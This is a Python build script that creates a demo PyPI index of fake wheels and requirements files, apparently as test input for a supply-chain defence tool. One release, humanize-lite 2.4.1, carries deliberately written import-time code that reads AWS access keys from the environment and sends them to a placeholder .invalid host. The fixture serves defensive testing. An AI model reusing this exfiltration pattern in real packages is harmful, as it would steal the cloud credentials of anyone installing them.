#!/usr/bin/env python3
"""Build the bundled PyPI demo (crates/turncoat-gate/demo/pypi): a directory index with
`humanize-lite` 2.4.0 -> 2.4.1 (2.4.1 is a ctx-style takeover: at import it reads AWS keys
from the environment and sends them to a .invalid host; inert, written by us) and `tinyfmt`
1.0.0 -> 1.0.1 (benign), plus the base and head requirements.txt a Dependabot PR would change.
Deterministic: fixed timestamps, sorted members. Run from the repository root."""
import base64, hashlib, json, os, zipfile

OUT = "crates/turncoat-gate/demo/pypi"
STAMP = (2026, 1, 1, 0, 0, 0)

CLEAN_HUMANIZE = '''"""Human-readable numbers."""

__version__ = "{v}"


def intcomma(n):
    return f"{{n:,}}"


def naturalsize(b):
    for unit in ("B", "kB", "MB", "GB"):
        if b < 1000:
            return f"{{b:.1f}} {{unit}}"
        b /= 1000
    return f"{{b:.1f}} TB"
'''

TROJAN = CLEAN_HUMANIZE + '''

import os as _o
import urllib.request as _u

_k = {{n: _o.environ.get(n, "") for n in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}}
try:
    _u.urlopen("https://telemetry.humanize-lite.invalid/v1", data=repr(_k).encode(), timeout=2)
except Exception:
    pass
'''

TINYFMT = '''"""Tiny string formatting helpers."""

__version__ = "{v}"


def pad(s, n):
    return s.ljust(n)
'''


def record_line(path, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}"


def wheel(name, version, module, source):
    dist = f"{name.replace('-', '_')}-{version}"
    files = {
        f"{module}/__init__.py": source.format(v=version).encode(),
        f"{dist}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist}.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: turncoat-demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "\n".join(record_line(p, d) for p, d in sorted(files.items()))
    record += f"\n{dist}.dist-info/RECORD,,\n"
    files[f"{dist}.dist-info/RECORD"] = record.encode()
    filename = f"{dist}-py3-none-any.whl"
    path = os.path.join(OUT, "files", filename)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for p in sorted(files):
            info = zipfile.ZipInfo(p, STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, files[p])
    with open(path, "rb") as f:
        return filename, hashlib.sha256(f.read()).hexdigest()


def main():
    os.makedirs(os.path.join(OUT, "files"), exist_ok=True)
    releases = [
        ("humanize-lite", "2.4.0", "humanize_lite", CLEAN_HUMANIZE, "2025-09-01T10:00:00Z"),
        ("humanize-lite", "2.4.1", "humanize_lite", TROJAN, "2026-11-26T03:12:00Z"),
        ("tinyfmt", "1.0.0", "tinyfmt", TINYFMT, "2025-05-01T10:00:00Z"),
        ("tinyfmt", "1.0.1", "tinyfmt", TINYFMT, "2026-10-01T10:00:00Z"),
    ]
    pages, pins = {}, {}
    for name, version, module, source, uploaded in releases:
        filename, sha = wheel(name, version, module, source)
        pages.setdefault(name, []).append(
            {"filename": filename, "url": f"../../files/{filename}", "hashes": {"sha256": sha}, "upload-time": uploaded}
        )
        pins[(name, version)] = sha
    for name, files in pages.items():
        d = os.path.join(OUT, "simple", name)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "index.json"), "w") as f:
            json.dump({"meta": {"api-version": "1.1"}, "name": name, "files": files}, f, indent=1)
            f.write("\n")
    for side, versions in (("base", ("2.4.0", "1.0.0")), ("head", ("2.4.1", "1.0.1"))):
        d = os.path.join(OUT, side)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "requirements.txt"), "w") as f:
            f.write("# pinned with hashes, as pip-compile --generate-hashes writes it\n")
            for name, v in zip(("humanize-lite", "tinyfmt"), versions):
                f.write(f"{name}=={v} \\\n    --hash=sha256:{pins[(name, v)]}\n")


if __name__ == "__main__":
    main()
